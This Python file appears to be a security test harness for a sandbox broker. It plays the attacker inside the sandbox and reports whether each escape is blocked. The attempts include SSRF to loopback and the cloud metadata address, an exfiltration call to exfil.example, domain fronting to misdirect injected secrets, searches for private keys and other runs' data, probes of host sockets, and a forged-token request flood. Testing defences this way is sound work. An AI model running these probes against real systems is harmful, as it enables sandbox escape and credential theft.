"""An attacker's artifact: one governed run that tries every way out it knows.

It runs inside a real sandbox as the entrypoint of a deployment (the test
copies it in as ``main.py``; standard library and ``proctor_guest`` only) and
prints, in order:

1. ``TOKEN {"run": ..., "token": ...}``: its own run token, as an attacker who
   wants to replay it later would (the test presents it elsewhere);
2. ``VERDICT {...}``: one entry per attempt, ``{"escaped": bool, "detail": str}``
   plus figures (the flood's counts);
3. ``DONE``.

``escaped`` is what the attacker would have gained: True means a way out worked.
Facts it is given (ports, paths, the marker another run wrote) come from
``ATTACK_FACTS``: the attacker is told everything a leak could have told it.
"""

from __future__ import annotations

import hashlib
import json
import os
import socket
import ssl
import stat
import sys
import threading
import time
import urllib.error
import urllib.request
from typing import Any

import proctor_guest

FACTS: dict[str, Any] = json.loads(os.environ["ATTACK_FACTS"])
OWN_SOCKET = os.environ.get("PROCTOR_BROKER", "/run/proctor/broker.sock")
TOKEN = os.environ.get("PROCTOR_TOKEN", "")
RUN = os.environ.get("PROCTOR_RUN", "")
PROXY = ("127.0.0.1", int(os.environ.get("PROCTOR_PROXY_PORT", "3128")))
verdict: dict[str, Any] = {}


def attempt(name: str, fn: Any) -> None:
    """Run one attempt; an exception means the way was closed."""
    started = time.monotonic()
    try:
        escaped, detail = fn()
    except Exception as exc:
        escaped, detail = False, f"{type(exc).__name__}: {exc}"
    verdict[name] = {"escaped": bool(escaped), "detail": str(detail)[:300]}
    # Progress for the run's stderr log, should one attempt hang.
    print(f"{name}: {time.monotonic() - started:.2f}s {verdict[name]}", file=sys.stderr, flush=True)


def refused_all(fns: dict[str, Any]) -> tuple[bool, str]:
    """Several tries of one way; escaped if any of them worked."""
    worked, seen = [], []
    for label, fn in fns.items():
        try:
            fn()
            worked.append(label)
        except Exception as exc:
            seen.append(f"{label}: {type(exc).__name__}")
    return bool(worked), f"worked={worked} refused={seen}"


# -- the host: files, /proc, devices, network ---------------------------------


def read_host_file() -> tuple[bool, str]:
    with open(FACTS["host_file"], "rb") as f:
        return True, f.read(100).decode(errors="replace")


def host_proc() -> tuple[bool, str]:
    pids = [p for p in os.listdir("/proc") if p.isdigit()]
    seen = b""
    for pid in pids:
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                seen += f.read() + b"\n"
        except OSError:
            pass
    marker = FACTS["host_process_marker"].encode()
    with open("/proc/1/cmdline", "rb") as f:
        init = f.read()
    # The host's processes (the test's marker process among them) must be invisible.
    escaped = marker in seen or len(pids) > 20
    return escaped, f"{len(pids)} pids visible; pid 1 is {init[:60]!r}"


# The host's hardware and kernel. (gVisor's own /dev/fuse and /dev/net/tun are
# the sentry's, not the host's.)
DEVICES = ("/dev/mem", "/dev/kmem", "/dev/port", "/dev/sda", "/dev/vda", "/dev/nvme0n1",
           "/dev/kmsg", "/dev/loop0", "/dev/tty0", "/dev/console")  # fmt: skip


def devices() -> tuple[bool, str]:
    def opener(path: str) -> Any:
        return lambda: os.close(os.open(path, os.O_RDONLY))

    return refused_all({p: opener(p) for p in DEVICES})


def direct_network() -> tuple[bool, str]:
    def tcp(host: str, port: int) -> None:
        with socket.create_connection((host, port), timeout=2):
            pass

    def udp() -> None:
        # A run with a network may make UDP sockets (DNS goes to the broker), but a
        # datagram reaches only the guest's own loopback or the broker's relay,
        # which answers nothing but DNS: no answer ever comes back.
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.settimeout(1)
            s.sendto(b"x", ("127.0.0.1", FACTS["host_port"]))
            s.sendto(b"x", ("198.51.100.9", FACTS["host_port"]))
            s.recv(1)

    return refused_all(
        {
            "tcp_host_loopback": lambda: tcp("127.0.0.1", FACTS["host_port"]),
            "tcp_upstream_direct": lambda: tcp("127.0.0.1", FACTS["plain_port"]),
            "udp_host_loopback": udp,
        }
    )


# -- through the broker ---------------------------------------------------------


def http_status(url: str, headers: dict[str, str] | None = None) -> int:
    req = urllib.request.Request(url, headers=headers or {})
    try:
        with urllib.request.urlopen(req, timeout=10) as r:
            return int(r.status)
    except urllib.error.HTTPError as e:
        return int(e.code)


def ssrf() -> tuple[bool, str]:
    port = FACTS["host_port"]
    urls = [f"http://127.0.0.1:{port}/", f"http://localhost:{port}/", f"http://127.1:{port}/",
            f"http://[::1]:{port}/", "http://169.254.169.254/latest/meta-data/",
            "http://2852039166/"]  # fmt: skip
    codes = {u: http_status(u) for u in urls}
    return any(c != 403 for c in codes.values()), json.dumps(codes)


def unapproved_host() -> tuple[bool, str]:
    code = http_status("http://exfil.example/collect?d=secret")
    return code != 403, f"status {code}"


def unapproved_column() -> tuple[bool, str]:
    try:
        proctor_guest.sql("fake", "SELECT email FROM customers LIMIT 1")
    except proctor_guest.Denied as e:
        return False, f"denied {e.policies}"
    return True, "the email column was read"


def unapproved_bucket() -> tuple[bool, str]:
    try:
        proctor_guest.write("other", "loot.txt", b"x")
    except proctor_guest.GuestError as e:
        return False, f"{e.code}"
    return True, "wrote to a bucket the run was not approved for"


def placeholder_over_plain_http() -> tuple[bool, str]:
    # The bound host, but plain HTTP: the broker would have to inject in clear text.
    code = http_status(
        f"http://localhost:{FACTS['secret_port']}/",
        {"Authorization": f"Bearer proctor-secret:{FACTS['secret_name']}"},
    )
    return code != 403, f"status {code}"


def _connect_tunnel(port: int) -> socket.socket:
    s = socket.create_connection(PROXY, timeout=10)
    s.sendall(f"CONNECT localhost:{port} HTTP/1.1\r\nHost: localhost:{port}\r\n\r\n".encode())
    head = b""
    while b"\r\n\r\n" not in head:
        chunk = s.recv(4096)
        if not chunk:
            raise ConnectionError("tunnel closed")
        head += chunk
    if not head.startswith(b"HTTP/1.1 200"):
        raise ConnectionError(head.split(b"\r\n", 1)[0].decode())
    return s


def domain_fronting() -> tuple[bool, str]:
    # TLS to the secret's host (the broker injects there), but a Host header naming
    # another: a shared front end would carry the secret elsewhere.
    ctx = ssl.create_default_context()  # trusts the tenant CA (SSL_CERT_FILE)
    raw = _connect_tunnel(FACTS["secret_port"])
    with ctx.wrap_socket(raw, server_hostname="localhost") as t:
        t.sendall(
            f"GET / HTTP/1.1\r\nHost: localhost:{FACTS['plain_port']}\r\n"
            f"Authorization: Bearer proctor-secret:{FACTS['secret_name']}\r\n\r\n".encode()
        )
        data = b""
        while True:
            chunk = t.recv(4096)
            if not chunk:
                break
            data += chunk
    first = data.split(b"\r\n", 1)[0].decode(errors="replace")
    return not first.startswith("HTTP/1.1 403"), first


def secret_through_blind_tunnel() -> tuple[bool, str]:
    # An allowed host with no secret: a blind tunnel, where the placeholder is
    # never replaced (the broker cannot see inside, so it injects nothing).
    ctx = ssl.create_default_context()
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    raw = _connect_tunnel(FACTS["plain_port"])
    with ctx.wrap_socket(raw, server_hostname="localhost") as t:
        t.sendall(
            f"GET /echo HTTP/1.1\r\nHost: localhost:{FACTS['plain_port']}\r\nConnection: close\r\n"
            f"Authorization: Bearer proctor-secret:{FACTS['secret_name']}\r\n\r\n".encode()
        )
        data = b""
        while chunk := t.recv(65536):
            data += chunk
    # The upstream echoes what it got: the placeholder, never the value.
    return b"proctor-secret:" not in data, data.split(b"\r\n\r\n", 1)[-1][:200].decode()


def ca_interception() -> tuple[bool, str]:
    """A blind tunnel shows the upstream's own certificate, which the tenant CA never minted."""
    ctx = ssl.create_default_context()
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    raw = _connect_tunnel(FACTS["plain_port"])
    with ctx.wrap_socket(raw, server_hostname="localhost") as t:
        der = t.getpeercert(binary_form=True) or b""
    fingerprint = hashlib.sha256(der).hexdigest()
    # With the sandbox's own trust (system roots + the tenant CA) it must not verify.
    strict = ssl.create_default_context()
    raw = _connect_tunnel(FACTS["plain_port"])
    try:
        with strict.wrap_socket(raw, server_hostname="localhost"):
            verified = True
    except ssl.SSLCertVerificationError:
        verified = False
    intercepted = fingerprint != FACTS["plain_fingerprint"] or verified
    return intercepted, f"peer {fingerprint[:16]} verified_by_sandbox_trust={verified}"


# -- other runs: scratch, sockets ------------------------------------------------


def _mounts() -> dict[str, str]:
    """Mount point -> its options, from /proc/self/mountinfo."""
    out = {}
    with open("/proc/self/mountinfo") as f:
        for line in f:
            fields = line.split()
            out[fields[4]] = fields[5]
    return out


def walk_everything() -> dict[str, Any]:
    """Every reachable path: names, and the contents of every file outside /usr and
    the interpreter's prefix (read-only binds of host directories, whose bytes an
    other run's scratch cannot be in). With ``full_walk`` (the soak) their names
    are walked too: sockets inside them would be reachable host sockets."""
    marker = (os.environ["MARKER_A"] + os.environ["MARKER_B"]).encode()
    # A positive control: a marker of our own in our own scratch must be found.
    control = os.urandom(16).hex().encode()
    os.makedirs("/tmp/own/deeper", exist_ok=True)
    with open("/tmp/own/deeper/control.txt", "wb") as f:
        f.write(b"notes " + control)
    found: dict[str, list[str]] = {"marker": [], "private_key": [], "sockets": [], "control": []}
    mounts = _mounts()
    ro_binds = tuple(m for m in FACTS["ro_binds"] if mounts.get(m, "").split(",")[0] == "ro")
    skip = () if FACTS["full_walk"] else ro_binds
    verdict["skipped_mounts"] = {m: mounts[m] for m in skip}
    files = paths = 0
    for top in sorted(os.listdir("/")):
        # /lib, /bin, ... are links into /usr; /proc is searched below, /sys is empty.
        if top in ("proc", "sys") or os.path.islink("/" + top) or "/" + top in skip:
            continue
        for root, dirs, names in os.walk("/" + top, followlinks=False):
            dirs[:] = [d for d in dirs if os.path.join(root, d) not in skip]
            for name in names + dirs:
                paths += 1
                path = os.path.join(root, name)
                try:
                    st = os.lstat(path)
                except OSError:
                    continue
                if stat.S_ISSOCK(st.st_mode):
                    found["sockets"].append(path)
                if not stat.S_ISREG(st.st_mode) or st.st_size > 4 << 20:
                    continue
                files += 1
                if path.startswith(ro_binds):
                    continue
                try:
                    with open(path, "rb") as f:
                        data = f.read()
                except OSError:
                    continue
                if marker in data:
                    found["marker"].append(path)
                if control in data:
                    found["control"].append(path)
                if b"PRIVATE" + b" KEY-----" in data:
                    found["private_key"].append(path)
    # The sandbox's own processes: environments and memory maps name what they hold.
    for pid in (p for p in os.listdir("/proc") if p.isdigit()):
        for what in ("environ", "cmdline"):
            try:
                with open(f"/proc/{pid}/{what}", "rb") as f:
                    if marker in f.read():
                        found["marker"].append(f"/proc/{pid}/{what}")
            except OSError:
                pass
    verdict["walk"] = {"paths": paths, "files": files, "control": found["control"]}
    return found


def other_runs_scratch(found: dict[str, Any]) -> tuple[bool, str]:
    return bool(found["marker"]), f"marker in {found['marker']}"


def ca_private_key(found: dict[str, Any]) -> tuple[bool, str]:
    listing = sorted(os.listdir("/opt/proctor-ca")) if os.path.isdir("/opt/proctor-ca") else []
    # The tenant CA's certificate (last in the bundle), for the test to inspect.
    with open(os.environ["SSL_CERT_FILE"]) as f:
        bundle = f.read()
    start = bundle.rindex("-----BEGIN CERTIFICATE-----")
    verdict["tenant_ca_pem"] = bundle[start : bundle.index("-----END CERTIFICATE-----", start) + 25]
    return bool(found["private_key"]), f"keys in {found['private_key']}; ca dir {listing}"


def _unix_paths_in_proc() -> list[str]:
    out = []
    try:
        with open("/proc/net/unix") as f:
            for line in f.read().splitlines()[1:]:
                parts = line.split()
                if len(parts) >= 8:
                    out.append(parts[7])
    except OSError:
        pass
    return out


def other_broker_sockets(found: dict[str, Any]) -> tuple[bool, str]:
    candidates = set(found["sockets"]) | set(_unix_paths_in_proc())
    candidates |= {FACTS["other_socket"], "@proctor", "@/run/proctor/broker.sock"}
    candidates |= {"/run/proctor/" + n for n in _listdir("/run/proctor")}
    reached = []
    for path in sorted(candidates):
        if path == OWN_SOCKET:
            continue
        address = "\0" + path[1:] if path.startswith("@") else path
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        s.settimeout(2)
        try:
            s.connect(address)
            reached.append(path)
        except OSError:
            pass
        finally:
            s.close()
    return bool(reached), f"tried {sorted(candidates)}; reached {reached}"


def _listdir(path: str) -> list[str]:
    try:
        return os.listdir(path)
    except OSError:
        return []


# -- the ledger: a flood of tiny calls -------------------------------------------


def _raw_call(request: bytes) -> int:
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.settimeout(30)
    try:
        s.connect(OWN_SOCKET)
        s.sendall(request)
        data = b""
        while b"\r\n" not in data:
            chunk = s.recv(4096)
            if not chunk:
                break
            data += chunk
    finally:
        s.close()
    return int(data.split(b" ", 2)[1]) if data.startswith(b"HTTP/1.1 ") else 0


def flood() -> tuple[bool, str]:
    body = json.dumps({"dataset": "fake", "sql": "SELECT email FROM customers"}).encode()
    kinds = [
        # A denied query: each one that got through would be an sql.select event.
        f"POST /v1/sql HTTP/1.1\r\nProctor-Token: {TOKEN}\r\nContent-Length: {len(body)}\r\n\r\n".encode()
        + body,
        # A forged token: each one that got through would be a broker.auth event.
        b"GET /v1/whoami HTTP/1.1\r\nProctor-Token: pt1.forged.1.AAAA\r\n\r\n",
    ]
    total, threads = FACTS["flood_calls"], FACTS["flood_threads"]
    counts: dict[int, int] = {}
    lock = threading.Lock()

    def worker(n: int, offset: int) -> None:
        mine: dict[int, int] = {}
        for i in range(n):
            code = _raw_call(kinds[(i + offset) % 2])
            mine[code] = mine.get(code, 0) + 1
        with lock:
            for code, k in mine.items():
                counts[code] = counts.get(code, 0) + k

    started = time.monotonic()
    workers = [threading.Thread(target=worker, args=(total // threads, t)) for t in range(threads)]
    for w in workers:
        w.start()
    for w in workers:
        w.join()
    seconds = time.monotonic() - started
    verdict["flood_counts"] = {str(k): v for k, v in sorted(counts.items())}
    verdict["flood_seconds"] = round(seconds, 3)
    verdict["flood_attempted"] = (total // threads) * threads
    # Escaped if every call went through: the ledger took the whole flood.
    return counts.get(429, 0) == 0, f"{counts} in {seconds:.2f}s"


def main() -> None:
    print("TOKEN " + json.dumps({"run": RUN, "token": TOKEN}), flush=True)
    attempt("host_file", read_host_file)
    attempt("host_proc", host_proc)
    attempt("devices", devices)
    attempt("direct_network", direct_network)
    attempt("ssrf_loopback_via_broker", ssrf)
    attempt("unapproved_host", unapproved_host)
    attempt("unapproved_column", unapproved_column)
    attempt("unapproved_bucket", unapproved_bucket)
    attempt("secret_placeholder_plain_http", placeholder_over_plain_http)
    attempt("secret_domain_fronting", domain_fronting)
    attempt("secret_through_blind_tunnel", secret_through_blind_tunnel)
    attempt("ca_interception", ca_interception)
    started = time.monotonic()
    found = walk_everything()
    verdict["walk_seconds"] = round(time.monotonic() - started, 3)
    attempt("other_runs_scratch", lambda: other_runs_scratch(found))
    attempt("ca_private_key", lambda: ca_private_key(found))
    attempt("other_broker_sockets", lambda: other_broker_sockets(found))
    verdict["environment"] = dict(os.environ)
    # Last: it spends the run's budget.
    attempt("flood", flood)
    print("VERDICT " + json.dumps(verdict), flush=True)
    print("DONE", flush=True)


if __name__ == "__main__":
    main()
